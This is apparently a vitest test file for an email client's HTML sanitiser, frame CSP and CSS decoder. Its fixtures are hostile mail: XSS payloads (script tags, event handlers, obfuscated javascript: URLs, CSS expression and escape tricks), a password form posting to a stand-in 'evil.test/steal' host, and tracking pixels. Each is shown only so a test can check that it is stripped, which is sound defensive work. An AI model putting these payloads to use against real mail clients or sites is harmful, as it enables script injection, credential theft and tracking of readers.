import { describe, expect, it } from 'vitest';
import { decodeCss } from '../../../shared/mail-content.js';
import { buildMailSrcdoc, IMAGE_PLACEHOLDER, linksInText, mailFrameCsp, MAX_INLINE_IMAGE_CHARS, sanitizeMailHtml } from './sanitize.js';

/** The sanitised HTML parsed again, to look at what a browser would build from it. */
function parse(html: string): Document {
  return new DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html');
}

function clean(dirty: string, remoteImages: ReadonlyMap<string, string> | null = null) {
  const result = sanitizeMailHtml(dirty, { remoteImages });
  const doc = parse(result.html);
  // DOMPurify prefixes ids (SANITIZE_NAMED_PROPS) so that mail cannot clobber names in the frame.
  const byId = (id: string) => doc.getElementById(`user-content-${id}`);
  return { ...result, doc, byId };
}

const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

describe('sanitizeMailHtml: hostile mail', () => {
  it('removes script elements, whatever their form', () => {
    const { html, doc } = clean(
      '<p>Hello</p><script>parent.document.title="pwned"</script><SCRIPT SRC=http://evil.test/x.js></SCRIPT><scr<script>ipt>alert(1)</script>',
    );
    expect(doc.querySelectorAll('script')).toHaveLength(0);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toContain('evil.test');
    expect(doc.body.textContent).toContain('Hello');
  });

  it('removes event handlers (onerror, onload, onclick, onmouseover…)', () => {
    const { doc } = clean(
      '<img src="x" onerror="alert(1)"><body onload="alert(2)"><div onclick="alert(3)" onmouseover="alert(4)">hi</div><svg onload="alert(5)"></svg>',
    );
    const withHandlers = [...doc.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on')));
    expect(withHandlers).toEqual([]);
    expect(doc.querySelector('svg')).toBeNull();
  });

  it('drops javascript:, vbscript: and data: URLs from links (also obfuscated), and lists none of them', () => {
    const { doc, links } = clean(
      [
        '<a href="javascript:alert(1)">a</a>',
        '<a href="JaVaScRiPt:alert(1)">b</a>',
        '<a href="java&#x09;script:alert(1)">c</a>',
        '<a href="&#106;avascript:alert(1)">d</a>',
        '<a href="vbscript:msgbox(1)">e</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">f</a>',
        '<a href="/relative">g</a>',
      ].join(''),
    );
    expect(links).toEqual([]);
    expect([...doc.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([null, null, null, null, null, null, null]);
    expect(doc.body.textContent).toBe('abcdefg');
  });

  it('lists http(s) and mailto links outside the frame: inside, a link has no href and only a number', () => {
    const { doc, links } = clean('<p>See <a href="https://example.com/invoice?id=1" target="_top" rel="opener">your invoice</a> or <a href="mailto:help@example.com">write</a>.</p>');
    expect(links).toEqual([
      { number: 1, url: 'https://example.com/invoice?id=1', text: 'your invoice' },
      { number: 2, url: 'mailto:help@example.com', text: 'write' },
    ]);
    const anchors = [...doc.querySelectorAll('a')];
    expect(anchors.map((a) => [a.getAttribute('href'), a.getAttribute('target'), a.textContent])).toEqual([
      [null, null, 'your invoice[1]'],
      [null, null, 'write[2]'],
    ]);
  });

  it('drops CSS expressions, javascript: URLs in CSS, bindings and @import, also behind escapes and comments', () => {
    const { doc, byId } = clean(
      [
        '<div id="a" style="width: expression(alert(1))">a</div>',
        '<div id="b" style="background: url(javascript:alert(1))">b</div>',
        '<div id="c" style="background-image: url(&quot;java\\73 cript:alert(1)&quot;)">c</div>',
        '<div id="d" style="-moz-binding: url(http://evil.test/x.xml#x)">d</div>',
        '<div id="e" style="width: ex/**/pression(alert(1))">e</div>',
        '<div id="f" style="behavior: url(x.htc)">f</div>',
        '<div id="g" style="color: red; font-weight: bold">g</div>',
        '<style>@import url(http://evil.test/x.css); p { color: red }</style>',
        '<style>p { background: url(javascript:alert(1)) }</style>',
      ].join(''),
    );
    for (const id of ['a', 'b', 'c', 'd', 'e', 'f']) expect(byId(id)?.getAttribute('style'), id).toBeNull();
    expect(byId('g')?.getAttribute('style')).toBe('color: red; font-weight: bold');
    const styles = [...doc.querySelectorAll('style')].map((s) => s.textContent);
    expect(styles.join('')).not.toMatch(/import|javascript|evil/i);
  });

  it('removes forms and their controls, keeping the text around them', () => {
    const { doc } = clean('<form action="https://evil.test/steal" method="post"><label>Password <input type="password" name="pw"></label><button formaction="https://evil.test">Log in</button><textarea>x</textarea><select><option>1</option></select></form>');
    expect(doc.querySelectorAll('form, input, button, textarea, select, option')).toHaveLength(0);
    expect(doc.body.innerHTML).not.toContain('evil.test');
  });

  it('removes meta refresh, base, link, iframes, objects and embeds', () => {
    const { doc, html } = clean(
      '<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css"><iframe src="https://evil.test/"></iframe><frameset><frame src="https://evil.test/"></frameset><object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf"><p>ok</p>',
    );
    expect(doc.querySelectorAll('meta, base, link, iframe, frame, frameset, object, embed')).toHaveLength(0);
    expect(html).not.toContain('evil.test');
    expect(doc.body.textContent).toBe('ok');
  });

  it('hides remote (tracking) images until asked, then puts in what the core fetched, and nothing else', () => {
    const dirty =
      '<img id="pixel" src="http://tracker.test/open.gif?u=42" width="1" height="1" srcset="http://tracker.test/2x.gif 2x">' +
      '<div id="bg" style="background: url(https://tracker.test/bg.png) no-repeat">x</div>' +
      `<img id="inline" src="${PIXEL}">` +
      '<img id="cid" src="cid:logo@mail">';
    const hidden = clean(dirty);
    expect(hidden.blockedRemoteImages).toBe(2);
    expect(hidden.html).not.toContain('tracker.test');
    expect(hidden.byId('pixel')?.getAttribute('src')).toBe(IMAGE_PLACEHOLDER);
    expect(hidden.byId('pixel')?.hasAttribute('srcset')).toBe(false);
    expect(hidden.byId('bg')?.getAttribute('style')).toBe('background: none no-repeat');
    expect(hidden.byId('inline')?.getAttribute('src')).toBe(PIXEL);
    expect(hidden.byId('cid')?.getAttribute('src')).toBe(IMAGE_PLACEHOLDER);

    expect(hidden.remoteImageUrls).toEqual(['http://tracker.test/open.gif?u=42', 'https://tracker.test/bg.png']);

    const fetched = new Map([
      ['http://tracker.test/open.gif?u=42', PIXEL],
      ['https://tracker.test/bg.png', PIXEL],
    ]);
    const shown = clean(dirty, fetched);
    expect(shown.blockedRemoteImages).toBe(0);
    expect(shown.html).not.toContain('tracker.test');
    expect(shown.byId('pixel')?.getAttribute('src')).toBe(PIXEL);
    expect(shown.byId('bg')?.getAttribute('style')).toBe(`background: url("${PIXEL}") no-repeat`);

    // The core refused the background: it stays hidden and counted.
    const partly = clean(dirty, new Map([['http://tracker.test/open.gif?u=42', PIXEL]]));
    expect(partly.blockedRemoteImages).toBe(1);
    expect(partly.html).not.toContain('tracker.test');
    expect(partly.byId('bg')?.getAttribute('style')).toBe('background: none no-repeat');
  });

  it('keeps only small inline images of plain raster types', () => {
    const huge = `data:image/png;base64,${'A'.repeat(MAX_INLINE_IMAGE_CHARS)}`;
    const { byId } = clean(`<img id="huge" src="${huge}"><img id="svg" src="data:image/svg+xml;base64,PHN2Zy8+"><img id="html" src="data:text/html,hi">`);
    for (const id of ['huge', 'svg', 'html']) expect(byId(id)?.getAttribute('src'), id).toBe(IMAGE_PLACEHOLDER);
  });

  it('cannot be broken out of a style element by escaped markup', () => {
    const { doc } = clean('<style>p { content: "\\3c /style\\3e \\3c img src=http://tracker.test/x\\3e " }</style><p>ok</p>');
    expect(doc.querySelectorAll('img')).toHaveLength(0);
    expect(doc.body.innerHTML).not.toContain('tracker.test');
  });

  it('leaves ordinary mail formatting alone', () => {
    const { doc } = clean('<table><tr><td style="padding: 4px"><b>請求書</b></td></tr></table><p><i>よろしくお願いします</i></p>');
    expect(doc.querySelector('td')?.getAttribute('style')).toBe('padding: 4px');
    expect(doc.querySelector('b')?.textContent).toBe('請求書');
  });
});

describe('the frame document', () => {
  it('starts with a CSP that blocks script and all remote content, remote images included', () => {
    const srcdoc = buildMailSrcdoc('<p>x</p>');
    const doc = new DOMParser().parseFromString(srcdoc, 'text/html');
    const first = doc.head.firstElementChild?.nextElementSibling;
    expect(first?.getAttribute('http-equiv')).toBe('Content-Security-Policy');
    expect(first?.getAttribute('content')).toBe(mailFrameCsp());
    expect(mailFrameCsp()).toContain("default-src 'none'");
    expect(mailFrameCsp()).toContain('img-src data:;');
    expect(mailFrameCsp()).not.toMatch(/script-src|http/);
  });
});

describe('decodeCss and linksInText', () => {
  it('decodes escapes and drops comments the way a browser reads CSS', () => {
    expect(decodeCss('\\65 xpression(1)')).toBe('expression(1)');
    expect(decodeCss('java\\script:x')).toBe('javascript:x');
    expect(decodeCss('a/* hidden */b')).toBe('ab');
  });

  it('finds http(s) and mailto links in plain text, never other schemes', () => {
    expect(linksInText('Go to https://example.com/a. Or javascript:alert(1), or mailto:x@example.com!').map((link) => link.url)).toEqual([
      'https://example.com/a',
      'mailto:x@example.com',
    ]);
  });
});
